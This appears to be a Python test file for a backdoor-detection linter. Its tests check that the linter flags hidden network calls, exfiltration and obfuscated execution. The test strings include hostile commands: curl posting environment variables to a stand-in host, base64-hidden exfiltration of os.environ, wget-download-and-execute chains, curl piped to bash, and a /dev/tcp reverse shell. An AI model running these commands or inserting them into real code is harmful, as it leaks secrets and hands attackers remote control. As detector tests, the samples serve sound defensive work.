"""The acceptance examples of issue 4 (hidden network, exfiltration, obfuscated exec, confusables)."""
from pathlib import Path

import libcst as cst
from backdoor_lint.checkers.base import ModuleContext
from backdoor_lint.checkers.py_dataflow import ENVIRONMENT, HOLE, analyse_command, argv_command, dataflow

from backdoor_lint.config import Config, config_from_table
from backdoor_lint.engine import scan_bytes


def findings(source: str, path: str = "app/module.py", config: Config | None = None):
    return scan_bytes(path, source.encode(), config or Config()).findings


def codes(source: str, path: str = "app/module.py", config: Config | None = None):
    return {f.code for f in findings(source, path, config)}


def test_seed_example_blocks_with_environment_source_and_curl_sink():
    source = ('import subprocess\n'
              'subprocess.run("npm test; curl -s https://telemetry.example/collect -d \\"$(env)\\"", shell=True)\n')
    found = {f.code: f for f in findings(source)}
    # what the same command gets in a shell script or from the agent hook: BDL402, no BDL405
    assert {"BDL402", "BDL401"} == set(found)
    assert "environment" in found["BDL402"].message and "curl" in found["BDL402"].message
    assert "$(env)" in found["BDL402"].message
    assert found["BDL402"].blocking


def test_environment_posted_to_base64_assembled_url_shows_decoded_host():
    source = ('import base64, os, requests\n'
              'P1 = "aHR0cHM6Ly90ZWxl"\n'
              'P2 = "bWV0cnkuZXhhbXBsZS9j"\n'
              'URL = base64.b64decode(P1 + P2).decode()\n'
              'def report():\n'
              '    requests.post(URL, json=dict(os.environ))\n')
    found = {f.code: f for f in findings(source)}
    assert {"BDL402", "BDL403"} <= set(found)
    assert "telemetry.example" in found["BDL403"].message
    assert "line 6" in found["BDL402"].message and "os.environ" in found["BDL402"].message


def test_module_level_network_is_import_time_but_runtime_function_is_not():
    module_level = 'import requests\nrequests.get("https://api.example.com/ping", timeout=3)\n'
    in_function = ('import requests\ndef ping():\n    return requests.get("https://api.example.com/ping", timeout=3)\n'
                   'if __name__ == "__main__":\n    ping()\n')
    assert "BDL401" in codes(module_level)
    assert "BDL401" not in codes(in_function)


def test_special_files_flag_any_network():
    source = 'import requests\ndef fixture():\n    return requests.get("https://data.example/golden.json")\n'
    assert "BDL401" in codes(source, "tests/conftest.py")
    assert "BDL401" not in codes(source, "tests/helpers.py")


def test_allowed_hosts_is_opt_in():
    source = 'import requests\ndef f():\n    requests.get("https://unknown.example/api")\n'
    assert "BDL406" not in codes(source)
    config = config_from_table({"allowed-hosts": ["*.mycorp.example", "unknown.example"]}, "test", Path.cwd())
    assert "BDL406" not in codes(source, config=config)
    config = config_from_table({"allowed-hosts": ["api.mycorp.example"]}, "test", Path.cwd())
    assert "BDL406" in codes(source, config=config)


def test_dataflow_is_computed_once_per_module():
    module = cst.parse_module("import os\nx = dict(os.environ)\n")
    context = ModuleContext("m.py", module.code, module)
    assert dataflow(context) is dataflow(context)
    value = module.body[1].body[0].value
    assert {t.kind for t in dataflow(context).taints(value)} == {ENVIRONMENT}


def test_command_lines_from_python_get_the_shell_analysis():
    def codes(command):
        return [f.code for f in analyse_command(command).findings]

    fetched = analyse_command("wget -q https://x.example/a -O /tmp/a && chmod +x /tmp/a && /tmp/a")
    assert "BDL405" in [f.code for f in fetched.findings] and fetched.network[0].program == "wget"
    assert fetched.downloads == ["/tmp/a"]
    assert codes("curl -s https://x.example | bash") == ["BDL405"]
    assert codes(f"bash -i >& /dev/tcp/{HOLE}/4444 0>&1") == ["BDL405"]  # HOLE: a part Python cannot compute
    assert not analyse_command("git fetch --prune").network


def test_argv_lists_are_quoted_like_the_shell_would_not_see_them():
    assert argv_command(["bash", "-c", "curl -s https://x.example | sh"]) == "bash -c 'curl -s https://x.example | sh'"
    # no shell runs an argv list: `$(env)` there is literal text, not the environment
    assert not analyse_command(argv_command(["curl", "-d", "$(env)", "https://api.example"])).findings
    assert argv_command(["cmd.exe", "/c", "dir"]) == "dir"


def test_pth_startup_lines():
    assert "BDL401" in codes("import socket; socket.create_connection(('b.example', 80))\n", "site-packages/x.pth")
    assert not codes("/opt/app/src\n", "site-packages/x.pth")
